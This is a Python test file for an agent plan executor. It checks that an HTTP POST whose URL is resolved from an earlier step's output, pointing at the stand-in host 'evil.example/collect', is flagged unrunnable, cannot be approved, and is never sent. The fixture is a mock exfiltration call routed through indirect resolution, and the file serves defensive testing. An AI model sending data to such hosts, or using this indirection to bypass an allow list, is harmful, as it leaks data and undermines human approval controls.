"""A call its runner will refuse is never approvable (issue 25, item 3). The compiler
judges a URL written in the plan; a URL taken from an earlier step's output is known only
when the call is resolved, so the step's preview carries the refusal (``runnable:
false``, with the runner's code, reason and what to change), every way of approving it
is refused (``call_refused``), and the executor refuses to run it, approved or not."""

from __future__ import annotations

from typing import Any

import pytest

from forge.compiler import GraphCompiler
from forge.plan import from_data
from forge.runners import builtin_runners
from forge.runners.base import RunContext
from forge.runners.preview import CallPreview
from forge.runtime import InMemoryRecordStore, Scheduler, ToolExecutor, TransitionRefused
from forge.runtime.local import LocalRun
from forge.runtime.previews import step_previewer
from forge.tools import DEFAULT_POLICY, CallRefusal, HostAllowList, PolicyEngine, builtin_registry

from .conftest import GATE, SIGNER, approved

HOSTS = HostAllowList.of(["api.example.com"])
POLICY = PolicyEngine(DEFAULT_POLICY)
REASON = "host 'evil.example' (port 443) is not on the allow list"


class CountingRunners(dict):
    """The built-in runners, counting the calls that reach http_request's."""

    def __init__(self, hosts: HostAllowList) -> None:
        super().__init__(builtin_runners(allowed_hosts=hosts))
        self.sent: list[Any] = []
        http = self["http_request"]
        outer = self

        class Counting:
            def preview(self, tool, args, context):
                return http.preview(tool, args, context)

            def run(self, tool, args, context):
                outer.sent.append(args)
                return http.run(tool, args, context)

        self["http_request"] = Counting()


def document(url: str = "https://evil.example/collect"):
    return from_data(
        {
            "goal": "Report to purchasing",
            "steps": [
                {"id": "find", "description": "Find the purchasing endpoint", "tool": "echo",
                 "args": {"url": url}, "done_when": {"required_keys": ["url"]}},
                {"id": "send", "description": "Send the report to the endpoint found",
                 "depends_on": ["find"], "tool": "http_request",
                 "args": {"method": "POST", "url": {"$from": "find", "path": "url"},
                          "body": {"report": "ok"}},
                 "rollback_hint": "Ask purchasing to delete it"},
            ],
        }
    )  # fmt: skip


def setup(tmp_path, url: str = "https://evil.example/collect", hosts: HostAllowList = HOSTS):
    graph = GraphCompiler(builtin_registry(hosts), POLICY).compile(document(url)).graph
    assert graph is not None  # the URL is not known at compile time
    runners = CountingRunners(hosts)
    executor = ToolExecutor(
        builtin_registry(hosts), POLICY, InMemoryRecordStore(), runners, approvals=SIGNER
    )
    scheduler = Scheduler(
        graph, "run-1", gate=GATE, previewer=step_previewer(executor, "run-1", lambda: tmp_path)
    )
    scheduler.prepare(approved(graph))
    [find] = scheduler.get_ready()
    binding = graph.nodes[find].binding
    context = RunContext("run-1", find, tmp_path, timeout_s=binding.timeout_s)
    scheduler.done(find, executor.execute(binding, context))
    return scheduler, executor, runners


def waiting_preview(scheduler, step_id: str = "send") -> dict[str, Any]:
    [*_, event] = [
        e for e in scheduler.events
        if e.step_id == step_id and e.event_type == "step_awaiting_approval"
    ]  # fmt: skip
    return event.facts["preview"]


def test_a_resolved_call_to_a_refused_host_waits_with_a_preview_that_cannot_run(tmp_path):
    scheduler, _, runners = setup(tmp_path)

    assert scheduler.state.steps["send"].status == "awaiting_approval"
    preview = waiting_preview(scheduler)
    assert preview["runnable"] is False
    assert preview["refusal"] == {
        "code": "host_not_allowed",
        "reason": REASON,
        "hint": "add evil.example (any port) or evil.example:443 to FORGE_HTTP_ALLOWED_HOSTS "
        "(the forge command: --allow-host evil.example), or call a host on the list",
    }
    assert preview["summary"].startswith("POST https://evil.example/collect")
    assert runners.sent == []


def test_the_run_says_the_refused_step_cannot_be_approved_rather_than_that_it_waits(tmp_path):
    scheduler, _, _ = setup(tmp_path)

    assert scheduler.state.status == "awaiting_approval"
    assert scheduler.state.blocked_reason == (
        "step 'send' cannot be approved: its call will be refused; an approver who did not "
        "write this version may reject it to replan"
    )


def test_a_preview_of_an_allowed_host_is_runnable(tmp_path):
    scheduler, _, _ = setup(tmp_path, url="https://api.example.com/reports")

    preview = waiting_preview(scheduler)
    assert preview["runnable"] is True
    assert "refusal" not in preview


def test_a_refused_preview_cannot_be_approved(tmp_path):
    scheduler, _, _ = setup(tmp_path)
    shown = scheduler.state.steps["send"].preview_hash

    with pytest.raises(TransitionRefused) as refused:
        scheduler.approve("send", "carol", scheduler.approval_hash("send"), shown)

    assert refused.value.code == "call_refused"
    assert REASON in refused.value.message and "FORGE_HTTP_ALLOWED_HOSTS" in refused.value.message
    assert scheduler.state.steps["send"].status == "awaiting_approval"
    assert scheduler.state.steps["send"].approved_by == ""


def test_a_refused_preview_can_still_be_rejected_which_asks_for_a_replan(tmp_path):
    scheduler, _, _ = setup(tmp_path)

    scheduler.reject("send", "carol", "that host is not ours")

    assert scheduler.state.status == "needs_replan"


def test_the_executor_refuses_the_call_even_with_a_token_and_never_sends_it(tmp_path):
    scheduler, executor, runners = setup(tmp_path)
    call = scheduler.call("send")
    token = SIGNER.issue(
        "run-1", "send", call.args_hash, "carol", scheduler.state.steps["send"].preview_hash
    )

    result = executor.execute(
        call, RunContext("run-1", "send", tmp_path, timeout_s=call.timeout_s), token=token
    )

    assert result.error_code == "host_not_allowed"
    assert result.error == REASON
    assert runners.sent == []
    [*_, record] = executor.records.records
    assert record.status == "refused" and record.error_code == "host_not_allowed"


def test_a_host_dropped_from_the_list_after_approval_is_refused_when_it_runs(tmp_path):
    # Approved while allowed; the worker's list no longer has the host.
    graph = GraphCompiler(builtin_registry(), POLICY).compile(document()).graph
    allowed = HostAllowList.of(["evil.example"])
    runners = CountingRunners(HostAllowList.of([]))
    executor = ToolExecutor(
        builtin_registry(), POLICY, InMemoryRecordStore(), runners, approvals=SIGNER
    )
    before = ToolExecutor(
        builtin_registry(), POLICY, InMemoryRecordStore(), CountingRunners(allowed),
        approvals=SIGNER,
    )  # fmt: skip
    scheduler = Scheduler(
        graph, "run-1", gate=GATE, previewer=step_previewer(before, "run-1", lambda: tmp_path)
    )
    scheduler.prepare(approved(graph))
    [find] = scheduler.get_ready()
    binding = graph.nodes[find].binding
    scheduler.done(find, before.execute(binding, RunContext("run-1", find, tmp_path, timeout_s=5)))
    shown = scheduler.state.steps["send"].preview_hash
    scheduler.approve("send", "carol", scheduler.approval_hash("send"), shown)
    call = scheduler.call("send")
    token = SIGNER.issue("run-1", "send", call.args_hash, "carol", shown)

    result = executor.execute(
        call, RunContext("run-1", "send", tmp_path, timeout_s=call.timeout_s), token=token
    )

    assert result.error_code == "host_not_allowed"
    assert runners.sent == []


def test_forge_run_approving_as_a_person_stops_at_a_refused_call_and_says_why(tmp_path):
    runners = CountingRunners(HOSTS)
    executor = ToolExecutor(
        builtin_registry(HOSTS), POLICY, InMemoryRecordStore(), runners, approvals=SIGNER
    )
    local = LocalRun(
        GraphCompiler(builtin_registry(HOSTS), POLICY), executor, tmp_path, approver="carol"
    )

    result = local.run(document())

    assert result.status == "awaiting_approval"
    assert result.waiting_for == "step"
    assert result.stop_reason.startswith("step 'send' cannot be approved: ")
    assert REASON in result.stop_reason
    assert result.preview_of("send")["runnable"] is False
    assert result.state.steps["send"].approved_by == ""
    assert runners.sent == []


def test_a_preview_round_trips_its_refusal_and_the_refusal_is_in_its_hash():
    refusal = CallRefusal("host_not_allowed", REASON, "add it")
    refused = CallPreview("http_request", "POST x", "POST x", refusal)
    plain = CallPreview("http_request", "POST x", "POST x")

    assert CallPreview.from_data(refused.to_data()) == refused
    assert CallPreview.from_data(plain.to_data()) == plain
    assert refused.hash != plain.hash
    assert plain.to_data()["runnable"] is True and refused.to_data()["runnable"] is False
